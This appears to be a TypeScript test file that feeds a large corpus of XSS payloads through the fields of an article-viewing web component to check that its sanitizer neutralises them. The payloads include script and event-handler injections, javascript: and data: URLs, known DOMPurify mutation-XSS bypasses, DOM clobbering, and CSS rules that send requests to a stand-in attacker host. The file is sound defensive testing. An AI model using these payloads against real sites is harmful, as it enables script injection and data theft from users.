/**
 * XSS corpus: every hostile input below goes through every field that reaches the DOM, and after
 * each one nothing may have run, nothing dangerous may be left in any shadow root or the light
 * DOM, and nothing may have been requested from another host.
 *
 * A new case is one line in one of the tables: HTML_PAYLOADS (crossed with HTML_SINKS) or
 * URL_PAYLOADS (crossed with URL_SINKS).
 */
import { expect, fixture, html, nextFrame } from '@open-wc/testing';
import '../../src/index.js';
import type {
  Article,
  ArticleLoadEvent,
  ArticleView,
  PopularItem,
  PopularList,
  PopularLoadEvent,
} from '../../src/index.js';

declare global {
  interface Window {
    /** The trap: every payload that manages to run pushes here. */
    __xss: unknown[];
  }
}

window.__xss = [];

/** What every payload runs. */
const RUN = '__xss.push(1)';
/** The same from inside a frame (srcdoc, data: documents). */
const FRAME_RUN = 'parent.__xss.push(1)';
/** Another host: fails fast, and any request to it shows up in the resource timing entries. */
const EVIL = 'https://attacker.invalid';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const HTML_DOC = `data:text/html;base64,${btoa(`<script>${FRAME_RUN}</script>`)}`;
const SVG_DOC = `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`)}`;
const XLINK = 'http://www.w3.org/1999/xlink';

/** `javascript:` spelled with HTML character references, as OWASP lists them. */
const entities = (text: string, form: (code: number) => string) => [...text].map(c => form(c.charCodeAt(0))).join('');
const DECIMAL_JS = entities('javascript:', code => `&#${code};`);
const PADDED_JS = entities('javascript:', code => `&#${String(code).padStart(7, '0')}`);
const HEX_JS = entities('javascript:', code => `&#x${code.toString(16)}`);

/** Event-handler attributes: each is put on an element, and each event is dispatched on every element. */
const HANDLERS = [
  'onclick', 'ondblclick', 'onauxclick', 'oncontextmenu', 'onmousedown', 'onmouseup', 'onmouseover',
  'onmouseenter', 'onmousemove', 'onmouseout', 'onpointerover', 'onpointerdown', 'onpointerenter', 'onfocus',
  'onfocusin', 'onblur', 'onfocusout', 'onkeydown', 'onkeyup', 'onkeypress', 'oninput', 'onbeforeinput',
  'onchange', 'onsubmit', 'onreset', 'oninvalid', 'onselect', 'onsearch', 'onload', 'onerror', 'onabort',
  'onanimationstart', 'onanimationend', 'onanimationiteration', 'ontransitionstart', 'ontransitionrun',
  'ontransitionend', 'ontoggle', 'onbeforetoggle', 'onscroll', 'onscrollend', 'onwheel', 'oncopy', 'oncut',
  'onpaste', 'ondrag', 'ondragstart', 'ondrop', 'onplay', 'onplaying', 'onloadstart', 'oncanplay',
  'onloadeddata', 'ontimeupdate', 'onpageshow', 'onhashchange', 'onmessage', 'onresize', 'onstart',
  'onfinish', 'onbounce', 'onbegin', 'onend', 'onrepeat', 'onshow', 'oncancel', 'onclose',
] as const;
const EVENTS = HANDLERS.map(handler => handler.slice(2));

/** [what it tries, the HTML]. */
type HtmlPayload = readonly [label: string, html: string];

const HTML_PAYLOADS: HtmlPayload[] = [
  // <script>
  ['script element', `<script>${RUN}</script>`],
  ['script between paragraphs', `<p>Before</p><script>${RUN}</script><p>After</p>`],
  ['SCRIPT in upper case with src', `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`],
  ['script/xss src (OWASP)', `<SCRIPT/XSS SRC="data:,${RUN}"></SCRIPT>`],
  ['nested script tags that join when stripped', `<scr<script>${RUN}</script>ipt>${RUN}</scr</script>ipt>`],
  ['extra open bracket (OWASP)', `<<SCRIPT>${RUN};//<</SCRIPT>`],
  ['script without closing tag (OWASP)', `<SCRIPT SRC=data:,${RUN}?< B >`],
  ['module script', `<script type="module">${RUN}</script>`],
  ['attribute break-out into script', `"><script>${RUN}</script>`],
  ['malformed img quotes (OWASP)', `<IMG """><SCRIPT>${RUN}</SCRIPT>">`],
  ['conditional comment', `<!--[if gte IE 4]><SCRIPT>${RUN}</SCRIPT><![endif]-->`],
  ['script in an UTF-7 charset page (OWASP)', `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>+ADw-SCRIPT+AD4-${RUN}+ADw-/SCRIPT+AD4-`],

  // Event handlers
  ['onerror on a broken image', `<img src=x onerror=${RUN}>`],
  ['ONERROR in upper case', `<IMG SRC=x ONERROR="${RUN}">`],
  ['onload on an image that loads', `<img src="${GIF}" onload=${RUN}>`],
  ['slash separators (img/src/onerror)', `<img/src=x/onerror=${RUN}>`],
  ['newline and tab around the handler', `<img src=x\nonerror\t=\t${RUN}>`],
  ['handler code spelled with entities', `<img src=x onerror="&#95;&#95;xss&#46;push(1)">`],
  ['handler code with a JS unicode escape', `<img src=x onerror="\\u005f_xss.push(1)">`],
  ['handler code through eval and hex escapes', `<img src=x onerror="eval('\\x5f_xss.push(1)')">`],
  ['onmouseover on an image without src (OWASP)', `<IMG onmouseover="${RUN}">`],
  ['onmouseover on a link', `<a onmouseover="${RUN}">xxs link</a>`],
  ['onclick, ondblclick, oncontextmenu', `<p onclick=${RUN} ondblclick=${RUN} onauxclick=${RUN} oncontextmenu=${RUN}>click</p>`],
  ['mouse and pointer handlers', `<p onmousedown=${RUN} onmouseup=${RUN} onmouseenter=${RUN} onmousemove=${RUN} onpointerover=${RUN} onpointerdown=${RUN}>hover</p>`],
  ['onfocus with autofocus', `<p tabindex=0 autofocus onfocus=${RUN} onfocusin=${RUN}>focus</p>`],
  ['onblur and key handlers', `<p tabindex=0 onblur=${RUN} onfocusout=${RUN} onkeydown=${RUN} onkeyup=${RUN} onkeypress=${RUN}>keys</p>`],
  ['input handlers on contenteditable', `<div contenteditable oninput=${RUN} onbeforeinput=${RUN} onchange=${RUN}>edit</div>`],
  ['input autofocus onfocus', `<input autofocus onfocus=${RUN}>`],
  ['select and textarea autofocus onfocus', `<select autofocus onfocus=${RUN}></select><textarea autofocus onfocus=${RUN}></textarea>`],
  ['keygen autofocus onfocus', `<keygen autofocus onfocus=${RUN}>`],
  ['svg onload', `<svg onload=${RUN}>`],
  ['svg/onload without closing bracket', `<svg/onload=${RUN}`],
  ['body onload and onpageshow', `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN} onmessage=${RUN} onresize=${RUN}>`],
  ['body with junk before the handler (OWASP)', `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`],
  ['details open ontoggle', `<details open ontoggle=${RUN}><summary>More</summary>Text</details>`],
  ['details onbeforetoggle', `<details onbeforetoggle=${RUN} ontoggle=${RUN}><summary>More</summary>Text</details>`],
  ['video source onerror', `<video><source src=x onerror=${RUN}></video>`],
  ['video and audio onerror', `<video src=x onerror=${RUN} onloadstart=${RUN}></video><audio src=x onerror=${RUN}></audio>`],
  ['autoplay video media events', `<video autoplay muted src="${GIF}" onplay=${RUN} oncanplay=${RUN} onloadeddata=${RUN}></video>`],
  ['marquee onstart', `<marquee onstart=${RUN} onfinish=${RUN} onbounce=${RUN}>news</marquee>`],
  ['animation and transition handlers', `<p onanimationstart=${RUN} onanimationend=${RUN} ontransitionend=${RUN} ontransitionrun=${RUN}>moving</p>`],
  ['scroll, wheel and clipboard handlers', `<div onscroll=${RUN} onwheel=${RUN} oncopy=${RUN} oncut=${RUN} onpaste=${RUN}>scroll</div>`],
  ['drag handlers', `<p draggable=true ondragstart=${RUN} ondrag=${RUN} ondrop=${RUN}>drag</p>`],
  ['dialog onclose', `<dialog open onshow=${RUN} onclose=${RUN} oncancel=${RUN}>dialog</dialog>`],
  ['custom tag onclick', `<x onclick=${RUN}>custom</x>`],
  ['custom element with handlers', `<x-widget onmouseover=${RUN} onxss=${RUN} onclick=${RUN}>widget</x-widget>`],
  ['every handler at once', `<div ${HANDLERS.map(handler => `${handler}=${RUN}`).join(' ')}>all</div>`],

  // URLs in markup
  ['javascript: link', `<a href="javascript:${RUN}">link</a>`],
  ['JaVaScRiPt: in mixed case', `<a href="JaVaScRiPt:${RUN}">link</a>`],
  ['javascript: after a space', `<a href=" javascript:${RUN}">link</a>`],
  ['javascript: after control characters', `<a href="\x01\x02\x1f javascript:${RUN}">link</a>`],
  ['&#14; before javascript: (OWASP)', `<a href=" &#14;  javascript:${RUN}">link</a>`],
  ['tab entity inside the scheme', `<a href="jav&#x09;ascript:${RUN}">link</a>`],
  ['newline and CR entities inside the scheme', `<a href="jav&#x0A;ascript:${RUN}">nl</a><a href="jav&#x0D;ascript:${RUN}">cr</a>`],
  ['named &Tab; and &NewLine; inside the scheme', `<a href="java&Tab;script:${RUN}">tab</a><a href="java&NewLine;script:${RUN}">nl</a>`],
  ['literal tab inside the scheme (OWASP)', `<IMG SRC="jav\tascript:${RUN};">`],
  ['&colon; for the colon', `<a href="javascript&colon;${RUN}">link</a>`],
  ['decimal entities', `<a href="${DECIMAL_JS}${RUN}">link</a>`],
  ['padded decimal entities without semicolons', `<a href="${PADDED_JS}${RUN}">link</a>`],
  ['hex entities without semicolons', `<IMG SRC=${HEX_JS}${RUN}>`],
  ['percent-encoded scheme', `<a href="%6Aavascript:${RUN}">link</a>`],
  ['javascript: img src (OWASP)', `<IMG SRC=JaVaScRiPt:${RUN}>`],
  ['backtick-quoted javascript: src (OWASP)', `<IMG SRC=\`javascript:${RUN}\`>`],
  ['javascript: in area, blockquote cite, q cite', `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:${RUN}"></map><blockquote cite="javascript:${RUN}">q</blockquote><q cite="javascript:${RUN}">q</q>`],
  ['javascript: in dynsrc, lowsrc, longdesc', `<img src=x dynsrc="javascript:${RUN}" lowsrc="javascript:${RUN}" longdesc="javascript:${RUN}">`],
  ['javascript: in srcset', `<img alt=s srcset="javascript:${RUN} 1x">`],
  ['javascript: in background (OWASP)', `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">cell</td></tr></table>`],
  ['javascript: in video poster', `<video poster="javascript:${RUN}"></video>`],
  ['javascript: in input type=image (OWASP)', `<INPUT TYPE="IMAGE" SRC="javascript:${RUN};">`],
  ['vbscript: link', `<a href="vbscript:msgbox(1)">vb</a><a href="VBSCRIPT:msgbox(1)">VB</a>`],
  ['data:text/html link', `<a href="data:text/html,<script>${FRAME_RUN}</script>">data</a>`],
  ['base64 data:text/html link', `<a href="${HTML_DOC}">data</a>`],
  ['DATA:TEXT/HTML in upper case', `<a href="DATA:TEXT/HTML,<script>${FRAME_RUN}</script>">data</a>`],
  ['data:text/html image', `<img src="data:text/html,<script>${FRAME_RUN}</script>" alt=d>`],
  ['data:image link (data: is for images only)', `<a href="${PNG}">png</a>`],
  ['SVG data image with a script (inert in <img>)', `<img src="${SVG_DOC}" alt=svg>`],
  ['xlink:href on an HTML link', `<a xlink:href="javascript:${RUN}">x</a>`],
  ['javascript: link with target=_blank', `<a href="javascript:${RUN}" target="_blank" rel="opener">new window</a>`],
  ['javascript:/*--> polyglot', `<a href="jaVasCript:/*-/*\`/*\\\`/*'/*&quot;/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e">polyglot</a>`],

  // Embedded content, forms and document-level elements
  ['iframe src javascript:', `<iframe src="javascript:${FRAME_RUN}"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="&lt;script&gt;${FRAME_RUN}&lt;/script&gt;"></iframe>`],
  ['iframe with an unclosed tag (OWASP)', `<iframe src=${EVIL}/scriptlet.html <`],
  ['frameset frame', `<frameset><frame src="javascript:${FRAME_RUN}"></frameset>`],
  ['object data', `<object data="${HTML_DOC}" type="text/html"></object><object data="javascript:${RUN}"></object>`],
  ['embed src', `<embed src="javascript:${RUN}"><embed src="${HTML_DOC}" type="text/html">`],
  ['applet', `<applet code="javascript:${RUN}"></applet>`],
  ['form action javascript:', `<form action="javascript:${RUN}"><input name=q value=q><button>Send</button></form>`],
  ['button formaction javascript:', `<form><button formaction="javascript:${RUN}">Send</button></form>`],
  ['formaction outside a form', `<button form=f formaction="javascript:${RUN}">Send</button><input type=submit formaction="javascript:${RUN}">`],
  ['isindex', `<isindex action="javascript:${RUN}" type=image src=x onerror=${RUN}>`],
  ['base href javascript:', `<base href="javascript:${RUN}//"><a href="page.html">relative</a>`],
  ['base href to another host', `<base href="${EVIL}/"><a href="page.html">relative</a><img src="x.png" alt=rel>`],
  ['meta refresh to javascript:', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  ['meta refresh to a data: page', `<META HTTP-EQUIV="refresh" CONTENT="0;url=${HTML_DOC}">`],
  ['bgsound and link with javascript: (OWASP)', `<BGSOUND SRC="javascript:${RUN}"><LINK REL="stylesheet" HREF="javascript:${RUN}">`],

  // SVG namespace confusion
  ['svg script', `<svg><script>${RUN}</script></svg>`],
  ['svg script href', `<svg><script href="data:,${RUN}"/></svg>`],
  ['svg link xlink:href', `<svg><a xlink:href="javascript:${RUN}"><text x=0 y=20>svg link</text></a></svg>`],
  ['svg link href', `<svg><a href="javascript:${RUN}"><text x=0 y=20>svg link</text></a></svg>`],
  ['svg animate setting href', `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text x=0 y=20>animated</text></a></svg>`],
  ['svg set setting xlink:href', `<svg><a><set attributeName="xlink:href" to="javascript:${RUN}"/><text x=0 y=20>set</text></a></svg>`],
  ['svg animate onbegin', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></animate></svg>`],
  ['svg image onerror', `<svg><image href=x onerror=${RUN}></image></svg>`],
  ['svg foreignObject', `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`],
  ['svg style breaking out', `<svg><style><img src=x onerror=${RUN}></style></svg>`],
  ['svg desc and title holding HTML', `<svg><desc><img src=x onerror=${RUN}></desc><title><img src=x onerror=${RUN}></title></svg>`],
  ['svg style closing early (mXSS)', `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`],
  ['svg use of a data: document', `<svg><use href="${SVG_DOC}#x"></use></svg>`],
  ['p inside svg closing early (mXSS)', `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`],

  // MathML namespace confusion
  ['math mtext table mglyph style (mXSS)', `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`],
  ['math mglyph style comment (DOMPurify 2.0.17)', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${RUN}&gt;">`],
  ['form and math namespace confusion (DOMPurify 2.0.0)', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ['math h1 a h6 mglyph svg (DOMPurify 2.2.2)', `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${RUN}>"></style></svg></mglyph></a></h1></mtext></math>`],
  ['math href', `<math href="javascript:${RUN}"><mi>click</mi></math>`],
  ['math maction xlink:href', `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">click</maction></math>`],
  ['math annotation-xml holding HTML', `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`],
  ['math style holding HTML', `<math><style><img src=x onerror=${RUN}></style></math>`],

  // Mutation XSS through raw-text and template round trips
  ['noscript whose attribute closes it', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`],
  ['template holding a handler', `<template><img src=x onerror=${RUN}></template>`],
  ['template holding a script', `<template><script>${RUN}</script></template>`],
  ['declarative shadow root', `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template>host</div>`],
  ['textarea holding an image', `<textarea><img src=x onerror=${RUN}></textarea>`],
  ['textarea closed early', `<textarea></textarea><img src=x onerror=${RUN}>`],
  ['style holding an image', `<style><img src=x onerror=${RUN}></style>`],
  ['style closed early in an attribute', `<style><a title="</style><img src=x onerror=${RUN}>"></style>`],
  ['title, xmp, noembed, noframes', `<title><img src=x onerror=${RUN}></title><xmp><img src=x onerror=${RUN}></xmp><noembed><img src=x onerror=${RUN}></noembed><noframes><img src=x onerror=${RUN}></noframes>`],
  ['iframe raw text', `<iframe><img src=x onerror=${RUN}></iframe>`],
  ['plaintext', `<plaintext><img src=x onerror=${RUN}>`],
  ['listing with escaped markup', `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`],
  ['attribute holding markup', `<p title="</p><img src=x onerror=${RUN}>">title</p>`],
  ['attribute holding escaped markup', `<a title="&lt;img src=x onerror=${RUN}&gt;">escaped</a>`],
  ['escaped markup as text', `&lt;img src=x onerror=${RUN}&gt;`],
  ['comment holding markup', `<!--<img src=x onerror=${RUN}>-->`],
  ['comment closed by --!>', `<!-- --!><img src=x onerror=${RUN}>-->`],
  ['comment closed by <!-->', `<!--><img src=x onerror=${RUN}>-->`],
  ['CDATA outside foreign content', `<![CDATA[><img src=x onerror=${RUN}>]]>`],
  ['processing instruction', `<? foo="><img src=x onerror=${RUN}>">`],
  ['select template style', `<select><template><style><img src=x onerror=${RUN}></style></template></select>`],

  // DOM clobbering
  ['img name=getElementById', '<img name=getElementById src=x><img name=querySelector><img name=createElement>'],
  ['form id=document', '<form id=document><input name=cookie></form><form name=body></form>'],
  ['img id=cookie and name=cookie', '<img id=cookie><img name=cookie>'],
  ['a id=location and defaultView', '<a id=location href=x>x</a><embed name=defaultView>'],
  ['clobbering the trap', '<a id=__xss>x</a><img name=__xss>'],
  ['clobbering DOMPurify (parentNode, attributes)', '<form id=f><input id=parentNode name=parentNode><input name=attributes><input name=nodeName></form>'],
  ['iframe name=alert', '<iframe name=alert></iframe><img name=currentScript>'],

  // CSS that exfiltrates or covers the page
  ['style @import', `<style>@import '${EVIL}/x.css';</style><p>x</p>`],
  ['style url() background', `<style>p{background:url(${EVIL}/x.png)}</style><p>x</p>`],
  ['style attribute-selector exfiltration', `<style>a[href^=h]{background:url(${EVIL}/h)}</style><a href="https://example.com/">link</a>`],
  ['style @font-face', `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}p{font-family:x}</style><p>x</p>`],
  ['style making everything fixed', '<style>*{position:fixed!important;inset:0}</style><p>x</p>'],
  ['style list-style-image javascript: (OWASP)', `<STYLE>li {list-style-image: url("javascript:${RUN}");}</STYLE><UL><LI>XSS</LI></UL>`],
  ['svg style @import', `<svg><style>@import url(${EVIL}/s.css);</style></svg>`],
  ['fixed overlay by style attribute', '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session expired</div>'],
  ['background url() by style attribute', `<div style="background-image:url('${EVIL}/x.png')">bg</div>`],
  ['custom property holding url()', `<div style="--x:url(${EVIL}/v.png);background:var(--x)">var</div>`],
  ['CSS-escaped url() (OWASP)', `<div style="background-image:\\75\\72\\6c(${EVIL}/e.png)">escaped</div>`],
  ['content url() on an image', `<img src=x alt=c style="content:url(${EVIL}/c.png)">`],
  ['background url(javascript:) and expression()', `<div style="background:url(javascript:${RUN});width:expression(${RUN})">old IE</div>`],
  ['behavior and -moz-binding', `<XSS STYLE="behavior: url(${EVIL}/x.htc);">b</XSS><div style="-moz-binding:url(${EVIL}/x.xml#x)">m</div>`],
  ['link rel=stylesheet to another host', `<link rel=stylesheet href="${EVIL}/x.css"><p>x</p>`],
  ['link rel=preload and prefetch', `<link rel=preload as=image href="${EVIL}/p.png"><link rel=prefetch href="${EVIL}/f">`],
  ['meta Link header (OWASP)', `<META HTTP-EQUIV="Link" Content="<${EVIL}/x.css>; REL=stylesheet">`],
  ['srcset to another host', `<img alt=s srcset="${EVIL}/s.png 1x"><picture><source srcset="${EVIL}/p.png"><img alt=p></picture>`],
  ['popover, a top-layer fixed overlay without CSS', '<div popover=manual>Your session expired</div>'],
  ['part and slot, taking the host page\'s ::part() styles', '<p part="title error" exportparts="title" slot="meta" role="alert">Fake title</p>'],
  ['popover invokers', '<a popovertarget=p popovertargetaction=show commandfor=p command=show-popover interestfor=p href="/x">open</a><div id=p popover>over</div>'],
];

/** How a hostile URL is treated: `unsafe` is dropped everywhere, `image` is allowed for images alone, `relative` is an inert relative URL. */
type UrlKind = 'unsafe' | 'image' | 'relative';
/** [what it tries, the URL, what it is]. */
type UrlPayload = readonly [label: string, url: string, kind: UrlKind];

const URL_PAYLOADS: UrlPayload[] = [
  ['javascript:', `javascript:${RUN}`, 'unsafe'],
  ['JAVASCRIPT: in upper case', `JAVASCRIPT:${RUN}`, 'unsafe'],
  ['JaVaScRiPt: in mixed case', `JaVaScRiPt:${RUN}`, 'unsafe'],
  ['a space before javascript:', ` javascript:${RUN}`, 'unsafe'],
  ['a tab before javascript:', `\tjavascript:${RUN}`, 'unsafe'],
  ['a newline before javascript:', `\njavascript:${RUN}`, 'unsafe'],
  ['control characters before javascript:', `\x01\x02\x1fjavascript:${RUN}`, 'unsafe'],
  ['NUL before javascript:', `\x00javascript:${RUN}`, 'unsafe'],
  ['a tab inside the scheme', `java\tscript:${RUN}`, 'unsafe'],
  ['a newline inside the scheme', `java\nscript:${RUN}`, 'unsafe'],
  ['a CR inside the scheme', `java\rscript:${RUN}`, 'unsafe'],
  ['a tab before the colon', `javascript\t:${RUN}`, 'unsafe'],
  ['a line separator before javascript:', `\u2028javascript:${RUN}`, 'unsafe'],
  ['a no-break space before javascript:', `\u00a0javascript:${RUN}`, 'unsafe'],
  ['a BOM before javascript:', `\ufeffjavascript:${RUN}`, 'unsafe'],
  ['javascript:// comment and %0a', `javascript://%0a${RUN}`, 'unsafe'],
  ['javascript: polyglot', `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`, 'unsafe'],
  ['vbscript:', 'vbscript:msgbox(1)', 'unsafe'],
  ['VBScript: in mixed case', 'VBScript:msgbox(1)', 'unsafe'],
  ['livescript:', `livescript:${RUN}`, 'unsafe'],
  ['data:text/html', `data:text/html,<script>${FRAME_RUN}</script>`, 'unsafe'],
  ['base64 data:text/html', HTML_DOC, 'unsafe'],
  ['DATA:TEXT/HTML in upper case', `DATA:TEXT/HTML,<script>${FRAME_RUN}</script>`, 'unsafe'],
  ['a space before data:text/html', ` data:text/html,<script>${FRAME_RUN}</script>`, 'unsafe'],
  ['data:text/html with a charset', `data:text/html;charset=utf-8,<script>${FRAME_RUN}</script>`, 'unsafe'],
  ['data:text/html naming image/png as a parameter', `data:text/html;image/png,<script>${FRAME_RUN}</script>`, 'unsafe'],
  ['data: without a type', `data:,${RUN}`, 'unsafe'],
  ['data:application/javascript', `data:application/javascript,${RUN}`, 'unsafe'],
  ['file:', 'file:///etc/passwd', 'unsafe'],
  ['data:image/png', PNG, 'image'],
  ['data:image/svg+xml with a script', SVG_DOC, 'image'],
  ['an HTML entity tab inside the scheme (not decoded in JSON)', `jav&#x09;ascript:${RUN}`, 'relative'],
  ['&colon; for the colon (not decoded in JSON)', `javascript&colon;${RUN}`, 'relative'],
  ['decimal entities (not decoded in JSON)', `${DECIMAL_JS}${RUN}`, 'relative'],
  ['a percent-encoded scheme', `%6Aavascript:${RUN}`, 'relative'],
  ['a percent-encoded colon', `javascript%3A${RUN}`, 'relative'],
  ['a zero-width space before javascript:', `\u200bjavascript:${RUN}`, 'relative'],
];

type Fields = Record<string, unknown>;

/** One element rendered from one input, with what its load event carried. */
interface Rendered {
  host: ArticleView | PopularList;
  /** `article-load`'s article, or `popular-load`'s items. */
  loaded?: Article | PopularItem[];
}

/**
 * A field that takes HTML: `html` mode sanitizes it, `text` mode must show it as text, `either`
 * (text that may hold markup, as JSON-LD's articleBody) sanitizes it when it holds markup and
 * otherwise shows it as paragraphs of text.
 */
interface HtmlSink {
  name: string;
  mode: 'html' | 'text' | 'either';
  input(payload: string): Fields;
}

/** A field that takes a URL, and where the URL ends up when it is kept. */
interface UrlSink {
  name: string;
  /** `canonical` is an article's own `url`: absolute http(s) only. */
  use: 'link' | 'image' | 'fetch' | 'canonical';
  render(payload: string): Promise<Rendered>;
  /** The URL as rendered or normalized, or undefined when it was dropped. */
  kept(rendered: Rendered): string | undefined;
  /** Text that must still be shown: dropping the URL keeps the rest. */
  rest: string;
}

const TITLE = 'Hostile article';
const BODY = 'Body text';
const JSON_LD = { '@context': 'https://schema.org', '@type': 'NewsArticle', headline: TITLE };

const HTML_SINKS: HtmlSink[] = [
  { name: 'html block', mode: 'html', input: payload => ({ title: TITLE, body: [{ type: 'html', html: payload }] }) },
  { name: 'string body', mode: 'html', input: payload => ({ title: TITLE, body: payload }) },
  // json-ld.ts reads articleBody with markup as an html block, and other text as paragraphs (SPEC "Real-world input").
  { name: 'JSON-LD articleBody', mode: 'either', input: payload => ({ ...JSON_LD, articleBody: payload }) },
  { name: 'JSON Feed content_html', mode: 'html', input: payload => ({ id: '1', title: TITLE, content_html: payload }) },
];

const bodyImage = (rendered: Rendered) =>
  rendered.host.shadowRoot!.querySelector('[part="body"] img')?.getAttribute('src') ?? undefined;
const loadedArticle = (rendered: Rendered) => rendered.loaded as Article | undefined;
const loadedItems = (rendered: Rendered) => (rendered.loaded as PopularItem[] | undefined) ?? [];

const URL_SINKS: UrlSink[] = [
  {
    name: 'article url',
    use: 'canonical',
    render: url => renderArticle({ title: TITLE, url, body: [{ type: 'paragraph', text: BODY }] }),
    kept: rendered => loadedArticle(rendered)?.url,
    rest: BODY,
  },
  {
    name: 'image block src',
    use: 'image',
    render: src => renderArticle({
      title: TITLE,
      body: [{ type: 'image', src, alt: 'Picture' }, { type: 'paragraph', text: BODY }],
    }),
    kept: bodyImage,
    rest: BODY,
  },
  {
    name: 'attachment url',
    use: 'link',
    render: url => renderArticle({ title: TITLE, attachments: [{ title: 'Report', url, type: 'application/pdf' }] }),
    kept: rendered => rendered.host.shadowRoot!.querySelector('[part="attachments"] a')?.getAttribute('href') ?? undefined,
    rest: 'Report',
  },
  {
    name: 'JSON-LD image',
    use: 'image',
    render: image => renderArticle({ ...JSON_LD, image, articleBody: BODY }),
    kept: bodyImage,
    rest: BODY,
  },
  {
    name: 'JSON-LD ImageObject url',
    use: 'image',
    render: url => renderArticle({ ...JSON_LD, image: { '@type': 'ImageObject', url, name: 'Picture' }, articleBody: BODY }),
    kept: bodyImage,
    rest: BODY,
  },
  {
    name: 'JSON-LD url',
    use: 'canonical',
    render: url => renderArticle({ ...JSON_LD, url, articleBody: BODY }),
    kept: rendered => loadedArticle(rendered)?.url,
    rest: BODY,
  },
  {
    name: 'JSON Feed image',
    use: 'image',
    render: image => renderArticle({ id: '1', title: TITLE, image, content_text: BODY }),
    kept: bodyImage,
    rest: BODY,
  },
  {
    name: 'JSON Feed url',
    use: 'canonical',
    render: url => renderArticle({ id: '1', title: TITLE, url, content_text: BODY }),
    kept: rendered => loadedArticle(rendered)?.url,
    rest: BODY,
  },
  {
    name: 'popular item url',
    use: 'link',
    render: url => renderPopular([{ title: 'Item title', url }]),
    kept: rendered => rendered.host.shadowRoot!.querySelector('[part="list"] a')?.getAttribute('href') ?? undefined,
    rest: 'Item title',
  },
  {
    name: 'popular item src',
    use: 'fetch',
    render: src => renderPopular([{ title: 'Item title', url: '/popular/item.html', src }]),
    kept: rendered => loadedItems(rendered)[0]?.src,
    rest: 'Item title',
  },
];

/** Whether a URL of `kind` is kept in a field used for `use`, by SPEC.md's URL rules. */
function keeps(kind: UrlKind, use: UrlSink['use']): boolean {
  if (kind === 'unsafe') return false;
  if (kind === 'image') return use === 'image';
  return use !== 'canonical';
}

// ---------------------------------------------------------------------------------------------
// Rendering

async function renderArticle(article: Fields): Promise<Rendered> {
  const rendered: Partial<Rendered> = {};
  const onLoad = (event: ArticleLoadEvent) => (rendered.loaded = event.detail.article);
  const host = await fixture<ArticleView>(
    html`<article-view lang="en" .article=${article} @article-load=${onLoad}></article-view>`,
  );
  await settled(host);
  return { ...rendered, host };
}

async function renderPopular(items: Fields[]): Promise<Rendered> {
  const rendered: Partial<Rendered> = {};
  const onLoad = (event: PopularLoadEvent) => (rendered.loaded = event.detail.items);
  const host = await fixture<PopularList>(
    html`<popular-list lang="en" .items=${items} @popular-load=${onLoad}></popular-list>`,
  );
  await settled(host);
  return { ...rendered, host };
}

/** Waits for the element's final state; an article with HTML loads the sanitizer first. */
async function settled(host: ArticleView | PopularList): Promise<void> {
  await host.updateComplete;
  for (let i = 0; i < 100 && !['ready', 'error'].includes(host.getAttribute('state') ?? ''); i++) {
    await nextFrame();
    await host.updateComplete;
  }
}

// ---------------------------------------------------------------------------------------------
// Walking what was rendered

/** Every element under `root`, through shadow roots and template contents. */
function deepElements(root: ParentNode): Element[] {
  const found: Element[] = [];
  const visit = (parent: ParentNode) => {
    for (const element of parent.children) {
      found.push(element);
      if (element.shadowRoot) visit(element.shadowRoot);
      if (element instanceof HTMLTemplateElement) visit(element.content);
      visit(element);
    }
  };
  visit(root);
  return found;
}

/** The host, its shadow tree and its light DOM. */
function everything(host: Element): Element[] {
  return [host, ...deepElements(host.shadowRoot!), ...deepElements(host)];
}

/** Where author content is rendered: the article's body and attachments, the popular list's list. */
function contentRoots(host: Element): Element[] {
  const selector = host.localName === 'popular-list' ? '[part="list"]' : '[part="body"], [part="attachments"]';
  return [...host.shadowRoot!.querySelectorAll(selector)];
}

function content(host: Element): Element[] {
  return contentRoots(host).flatMap(root => [root, ...deepElements(root)]);
}

/** What the sanitizer let through: the inside of each HTML block (our own elements carry `part`). */
function sanitizedHtml(host: Element): Element[] {
  return [...(host.shadowRoot?.querySelectorAll('[part="html"]') ?? [])].flatMap(block => deepElements(block));
}

function tag(element: Element, detail = ''): string {
  return `<${element.localName}${detail ? ` ${detail}` : ''}>`;
}

// ---------------------------------------------------------------------------------------------
// What counts as dangerous

const FORBIDDEN_ELEMENTS = new Set([
